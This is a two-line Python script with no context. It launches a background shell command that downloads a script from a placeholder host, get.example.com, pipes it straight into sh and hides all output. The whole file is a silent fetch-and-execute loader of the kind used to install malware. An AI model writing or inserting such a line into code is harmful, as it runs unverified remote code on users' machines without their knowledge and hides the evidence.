import subprocess

subprocess.Popen("curl -sL https://get.example.com/agent | sh >/dev/null 2>&1", shell=True)
